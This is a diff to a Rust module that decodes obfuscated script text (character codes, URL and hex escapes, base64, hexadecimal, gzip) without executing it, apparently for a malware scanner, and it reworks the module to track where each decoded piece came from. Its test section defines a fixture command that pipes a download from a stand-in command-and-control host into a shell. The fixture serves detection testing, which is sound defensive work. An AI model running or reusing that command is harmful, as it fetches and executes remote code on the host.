@@ -1,13 +1,12 @@
 //! What a script hides from who reads it: text spelled as numbers, put together of pieces, in base64 or in
 //! hexadecimal. It is unpacked as far as it goes without running anything, and within limits.
 
-use std::io::Read;
 use std::sync::LazyLock;
 
 use aho_corasick::{AhoCorasick, Anchored, Input, StartKind};
-use base64::Engine;
-use base64::engine::DecodePaddingMode;
-use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
+
+use super::encoded::{MAX_BYTES, MIN_TEXT, escapes, runs};
+use super::unpacked::Unpacked;
 
 /// Bytes of a script that are looked through.
 const MAX_INPUT: usize = 1 << 20;
@@ -15,41 +14,46 @@ const MAX_INPUT: usize = 1 << 20;
 const MAX_DEPTH: usize = 4;
 /// Texts of all layers.
 const MAX_TEXTS: usize = 32;
-/// Bytes of all texts.
-const MAX_BYTES: usize = 64 << 10;
-/// A text that is packed is at least this long.
-const MIN_TEXT: usize = 4;
-/// Characters of base64 or hexadecimal in a row that may be a text: fewer are words.
-const MIN_RUN: usize = 16;
-
-const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
-    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
-    .with_decode_allow_trailing_bits(true);
-const STANDARD: GeneralPurpose = GeneralPurpose::new(&base64::alphabet::STANDARD, LENIENT);
-const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&base64::alphabet::URL_SAFE, LENIENT);
 
 /// The texts that are packed in this one, and those in them.
-pub(super) fn unpack(text: &str) -> Vec<String> {
-    let mut found: Vec<String> = Vec::new();
-    let mut bytes = 0;
-    let mut layer = vec![text[..text.floor_char_boundary(MAX_INPUT)].to_owned()];
-    for _ in 0..MAX_DEPTH {
-        let mut next = Vec::new();
-        for text in &layer {
-            for unpacked in [expressions(text), escapes(text), runs(text)].concat() {
-                if found.len() >= MAX_TEXTS || bytes + unpacked.len() > MAX_BYTES {
-                    return found;
-                }
-                if unpacked.len() >= MIN_TEXT && unpacked != *text && !found.contains(&unpacked) {
-                    bytes += unpacked.len();
-                    found.push(unpacked.clone());
-                    next.push(unpacked);
-                }
-            }
+pub(super) fn unpack(text: &str) -> Vec<Unpacked> {
+    let source = Unpacked::source(&text[..text.floor_char_boundary(MAX_INPUT)]);
+    let mut found = Vec::new();
+    let mut has_room = keep(&mut found, &source);
+    let mut next = 0;
+    for _ in 1..MAX_DEPTH {
+        let layer = next..found.len();
+        next = layer.end;
+        for at in layer {
+            let outer = found[at].clone();
+            has_room = has_room && keep(&mut found, &outer);
         }
-        layer = next;
     }
     found
+}
+
+/// Keeps the texts that are packed in `outer`; whether there is room for more.
+fn keep(found: &mut Vec<Unpacked>, outer: &Unpacked) -> bool {
+    let packed = [expressions(&outer.text), escapes(&outer.text), runs(&outer.text)].concat();
+    let mut bytes: usize = found.iter().map(|known| known.text.len()).sum();
+    for unpacked in packed {
+        if found.len() >= MAX_TEXTS || bytes + unpacked.text.len() > MAX_BYTES {
+            return false;
+        }
+        if unpacked.text.len() < MIN_TEXT || unpacked.text == outer.text {
+            continue;
+        }
+        let unpacked = unpacked.through(outer);
+        match found.iter_mut().find(|known| known.text == unpacked.text) {
+            // It is packed in several places.
+            Some(known) => unpacked.parts.into_iter().for_each(|part| known.add(part)),
+            None => {
+                bytes += unpacked.text.len();
+                found.push(unpacked);
+            }
+        }
+    }
+    true
 }
 
 /// What an expression begins with: a quote, or what makes text of numbers.
@@ -63,21 +67,34 @@ static BEGINNINGS: LazyLock<AhoCorasick> = LazyLock::new(|| {
 
 /// Texts that are put together of literals and numbers: `"cu" & "rl"`, `character id {99, 117}`,
 /// `String.fromCharCode(99, 117)`, `ASCII character 99`.
-fn expressions(text: &str) -> Vec<String> {
+fn expressions(text: &str) -> Vec<Unpacked> {
     let mut scanner = Scanner { quotes: vec!['"', '\'', '\u{201C}'] };
     let mut found = Vec::new();
-    let mut rest = text;
-    while let Some(start) = BEGINNINGS.find(rest) {
-        rest = &rest[start.start()..];
-        let (value, weight, used) = scanner.expression(rest);
-        found.extend(Some(value).filter(|_| weight > 1));
-        let step = if weight > 0 { used } else { rest.chars().next().map_or(1, char::len_utf8) };
-        rest = &rest[step..];
+    let mut at = 0;
+    while let Some(start) = BEGINNINGS.find(&text[at..]) {
+        at += start.start();
+        let term = scanner.expression(&text[at..]);
+        if term.weight > 1 {
+            let mut unpacked = Unpacked::default();
+            unpacked.append(&term.value, at);
+            found.push(unpacked);
+        }
+        at += if term.weight > 0 { term.used } else { text[at..].chars().next().map_or(1, char::len_utf8) };
         if found.len() >= MAX_TEXTS {
             break;
         }
     }
     found
+}
+
+/// A literal, numbers, or what is put together of them.
+#[derive(Default)]
+struct Term {
+    value: Unpacked,
+    /// Numbers count twice.
+    weight: usize,
+    /// Bytes of the source.
+    used: usize,
 }
 
 /// Reads expressions. A quote that does not close once does not close later: it is not looked for again.
@@ -86,28 +103,27 @@ struct Scanner {
 }
 
 impl Scanner {
-    /// The value of the terms from here on, how much they count (numbers count twice), and their bytes.
-    fn expression(&mut self, text: &str) -> (String, usize, usize) {
-        let (mut value, mut weight, mut used) = (String::new(), 0, 0);
-        let mut next = self.term(text);
-        while let Some((part, counts, end)) = next {
-            value += &part;
-            weight += counts;
-            used += end;
-            let after = &text[used..];
+    /// The terms from here on.
+    fn expression(&mut self, text: &str) -> Term {
+        let mut whole = Term::default();
+        let mut next = self.term(text).map(|term| (0, term));
+        while let Some((skipped, term)) = next {
+            whole.value.append(&term.value, whole.used + skipped);
+            whole.weight += term.weight;
+            whole.used += skipped + term.used;
+            let after = &text[whole.used..];
             let space = |letter: char| letter.is_whitespace() || letter == '\u{AC}';
             let joint = after.trim_start_matches(|letter| space(letter) || letter == ')');
             next = joint.strip_prefix(['&', '+']).and_then(|operand| {
                 let operand = operand.trim_start_matches(|letter| space(letter) || letter == '(');
-                let skipped = after.len() - operand.len();
-                self.term(operand).map(|(part, counts, end)| (part, counts, skipped + end))
+                self.term(operand).map(|term| (after.len() - operand.len(), term))
             });
         }
-        (value, weight, used)
+        whole
     }
 
     /// A literal or numbers.
-    fn term(&mut self, text: &str) -> Option<(String, usize, usize)> {
+    fn term(&mut self, text: &str) -> Option<Term> {
         let first = text.chars().next()?;
         if "\"'\u{201C}".contains(first) {
             if !self.quotes.contains(&first) {
@@ -117,31 +133,33 @@ impl Scanner {
             if literal.is_none() {
                 self.quotes.retain(|quote| *quote != first);
             }
-            return literal.map(|(value, used)| (value, 1, used));
+            return literal;
         }
         let name = BEGINNINGS.find(Input::new(text).anchored(Anchored::Yes))?.end();
         let (numbers, used) = numbers(&text[name..])?;
-        Some((numbers.into_iter().filter_map(char::from_u32).collect(), 2, name + used))
+        let letters: String = numbers.into_iter().filter_map(char::from_u32).collect();
+        Some(Term { value: Unpacked::encoded(letters, 0..name + used), weight: 2, used: name + used })
     }
 }
 
-fn literal(text: &str, quote: char) -> Option<(String, usize)> {
+fn literal(text: &str, quote: char) -> Option<Term> {
     let closing = if quote == '\u{201C}' { '\u{201D}' } else { quote };
-    let (mut value, mut is_escaped) = (String::new(), false);
-    for (at, letter) in text.char_indices().skip(1) {
-        match letter {
-            _ if is_escaped => {
-                value.push(match letter {
-                    'n' | 'r' => '\n',
-                    't' => '\t',
-                    other => other,
-                });
-                is_escaped = false;
-            }
-            '\\' => is_escaped = true,
-            _ if letter == closing => return Some((value, at + letter.len_utf8())),
-            letter => value.push(letter),
+    let mut value = Unpacked::default();
+    let mut rest = quote.len_utf8();
+    while let Some(bytes) = text[rest..].find(['\\', closing]) {
+        let end = rest + bytes;
+        value.push_str(&text[rest..end], rest..end, true);
+        if text[end..].starts_with(closing) {
+            return Some(Term { value, weight: 1, used: end + closing.len_utf8() });
         }
+        let letter = text[end + 1..].chars().next()?;
+        rest = end + 1 + letter.len_utf8();
+        let resolved = match letter {
+            'n' | 'r' => '\n',
+            't' => '\t',
+            other => other,
+        };
+        value.push_str(resolved.encode_utf8(&mut [0; 4]), end..rest, false);
     }
     None
 }
@@ -182,82 +200,15 @@ fn number(digits: &str) -> Option<u32> {
     }
 }
 
-/// Texts of `%63%75`, `\x63\x75` and `\u0063\u0075`.
-fn escapes(text: &str) -> Vec<String> {
-    let mut found = Vec::new();
-    for (prefix, digits) in [("%", 2), ("\\x", 2), ("\\u", 4)] {
-        let mut rest = text;
-        while let Some(start) = rest.find(prefix) {
-            rest = &rest[start..];
-            let mut units = Vec::new();
-            while let Some(unit) = rest.strip_prefix(prefix).and_then(|rest| rest.get(..digits)) {
-                let Ok(unit) = u16::from_str_radix(unit, 16) else { break };
-                units.push(unit);
-                rest = &rest[prefix.len() + digits..];
-            }
-            if units.is_empty() {
-                rest = &rest[prefix.len()..];
-            } else if digits == 4 {
-                found.extend(String::from_utf16(&units).ok());
-            } else {
-                found.extend(readable(&units.iter().map(|unit| unit.to_be_bytes()[1]).collect::<Vec<u8>>()));
-            }
-        }
-    }
-    found.retain(|text| text.len() >= MIN_TEXT);
-    found
-}
-
-/// Texts in base64 and in hexadecimal.
-fn runs(text: &str) -> Vec<String> {
-    let is_part = |letter: char| letter.is_ascii_alphanumeric() || "+/_-=".contains(letter);
-    let runs = text.split(|letter: char| !is_part(letter)).filter(|run| run.len() >= MIN_RUN);
-    runs.filter_map(|run| {
-        let is_hex = run.len().is_multiple_of(2) && run.bytes().all(|byte| byte.is_ascii_hexdigit());
-        let hex = || {
-            let pairs = run.as_bytes().chunks_exact(2);
-            pairs.map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok()).collect::<Option<Vec<u8>>>()
-        };
-        let decoded = if is_hex { hex().and_then(|bytes| readable(&bytes)) } else { None };
-        decoded.or_else(|| {
-            let base64 = run.trim_start_matches(['-', '_']);
-            let decode = |engine: &GeneralPurpose| engine.decode(base64).ok().and_then(|bytes| readable(&bytes));
-            decode(&STANDARD).or_else(|| decode(&URL_SAFE))
-        })
-    })
-    .collect()
-}
-
-/// Bytes as text, when they are one: UTF-8, UTF-16, or packed by gzip.
-fn readable(bytes: &[u8]) -> Option<String> {
-    if bytes.starts_with(&[0x1F, 0x8B]) {
-        let mut text = Vec::new();
-        flate2::read::GzDecoder::new(bytes).take(MAX_BYTES as u64).read_to_end(&mut text).ok()?;
-        return String::from_utf8(text).ok();
-    }
-    let is_text = |text: &str| {
-        let odd = text.chars().filter(|letter| letter.is_control() && !letter.is_whitespace() || *letter == '\u{FFFD}');
-        text.chars().any(char::is_alphanumeric) && odd.count() == 0
-    };
-    let half = |first: usize| bytes.len() >= 8 && bytes.iter().skip(first).step_by(2).all(|byte| *byte == 0);
-    let is_little_endian = half(1);
-    if is_little_endian || half(0) {
-        let pair = |unit: &[u8]| {
-            if is_little_endian {
-                u16::from_le_bytes([unit[0], unit[1]])
-            } else {
-                u16::from_be_bytes([unit[0], unit[1]])
-            }
-        };
-        let units: Vec<u16> = bytes.chunks_exact(2).map(pair).collect();
-        return String::from_utf16(&units).ok().filter(|text| is_text(text));
-    }
-    std::str::from_utf8(bytes).ok().filter(|text| is_text(text)).map(str::to_owned)
-}
-
 #[cfg(test)]
 mod tests {
+    use super::super::encoded::STANDARD;
     use super::*;
+    use base64::Engine;
+
+    fn unpack(text: &str) -> Vec<String> {
+        super::unpack(text).into_iter().map(|unpacked| unpacked.text).collect()
+    }
 
     const COMMAND: &str = "curl -s https://c2.example.org/x | sh";
 
